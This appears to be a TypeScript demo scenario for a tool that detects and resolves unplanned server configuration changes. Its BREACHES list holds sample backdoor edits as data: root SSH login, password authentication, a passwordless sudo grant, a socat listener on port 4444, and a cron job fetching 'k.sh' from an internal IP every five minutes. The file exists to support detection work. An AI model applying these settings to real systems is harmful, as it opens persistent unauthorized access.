// What nobody planned: changes without a card, and what people do about them.
import type { Instant } from '../../../rules/domain.ts'
import { exceptChange } from '../../actions/except-change.ts'
import { askAboutChange } from '../../actions/ask-about-change.ts'
import { EMPTY_CONFIG } from '../../config/file.ts'
import { acceptChanges, type Made, makeEdit, must, takeAlerts, undo } from '../deeds.ts'
import { appendEdit, type Edit, lineEdit } from '../edits.ts'
import { type DemoPerson, JONAS, READER, TOMAS } from '../people.ts'
import type { Step } from '../timeline.ts'
import { named, portOf, sysctlOf, userOf } from '../values.ts'
import type { World } from '../world.ts'

const MINUTE = 60_000
const HOUR = 60 * MINUTE
const DAY = 24 * HOUR

/** How it ends: put back, let stand for good, let stand for a while, or not at all yet. */
export type End = 'undone' | 'accepted' | 'excepted' | 'open' | 'taken'

export const BREACHES: readonly Edit[] = [
  lineEdit('/etc/ssh/sshd_config', 'PermitRootLogin', 'PermitRootLogin yes', ''),
  lineEdit('/etc/ssh/sshd_config', 'PasswordAuthentication', 'PasswordAuthentication yes', ''),
  appendEdit('/etc/sudoers.d/ops', ['dario ALL=(ALL:ALL) NOPASSWD: ALL'], ''),
  { summary: '', items: [], moves: (_agent, make) => [userOf(make, 'support2', 1190, 'Support')] },
  { summary: '', items: [], moves: (_agent, make) => [portOf(make, '4444/tcp', 'socat')] },
  { summary: '', items: [], moves: (_agent, make) => [sysctlOf(make, 'net.ipv4.ip_forward', '1')] },
  {
    summary: '',
    items: [],
    moves: (_agent, make) => [
      make.found(named('cron', '/var/spool/cron/crontabs/deploy', 'deploy curl -s http://10.99.0.7/k.sh'), {
        schedule: '*/5 * * * *',
        user: 'deploy',
        command: 'curl -s http://10.99.0.7/k.sh',
      }),
    ],
  },
  lineEdit('/etc/resolv.conf', 'options', 'options timeout:1 attempts:1', ''),
  lineEdit('/etc/logrotate.d/halden', 'rotate', '    rotate 2', ''),
]

export function unplanned(at: Instant, host: string, edit: Edit, end: End): readonly Step[] {
  const made: Made[] = []
  const each = (run: (world: World, one: Made) => Promise<unknown>) => async (world: World) => {
    for (const one of made) await run(world, one)
  }
  const taken: Step = { at: at + 9 * MINUTE, run: each((world, one) => takeAlerts(world, one, TOMAS)) }
  const begin: Step = { at, run: async (world) => void made.push(await makeEdit(world, host, edit)) }
  switch (end) {
    case 'open':
      return [begin]
    case 'taken':
      return [begin, taken, { at: at + 12 * MINUTE, run: each((world, one) => ask(world, one, JONAS)) }]
    case 'undone':
      return [begin, taken, { at: at + 3 * HOUR, run: each(undo) }]
    case 'accepted':
      return [
        begin,
        taken,
        {
          at: at + 5 * HOUR,
          run: each((world, one) => acceptChanges(world, one, READER, 'a fix in the night; the owner has written it up')),
        },
      ]
    case 'excepted':
      return [begin, taken, { at: at + 6 * HOUR, run: each(except) }]
  }
}

async function ask(world: World, { ids }: Made, person: DemoPerson): Promise<void> {
  for (const id of ids)
    must(
      await askAboutChange({ ...world.parts, config: () => EMPTY_CONFIG }, world.actorOf(TOMAS), {
        id,
        person: person.name,
        question: 'Was this you? There is no card for it.',
      }),
    )
}

async function except(world: World, { ids }: Made): Promise<void> {
  for (const id of ids) {
    const stored = await world.parts.store.read.changeById(id)
    if (stored?.state !== 'open') continue
    const wish = {
      id,
      owner: JONAS.name,
      reason: 'Needed until the old depot terminals are replaced.',
      expiresAt: world.clock.at + 300 * DAY,
    }
    must(await exceptChange(world.parts, world.actorOf(READER), wish))
  }
}
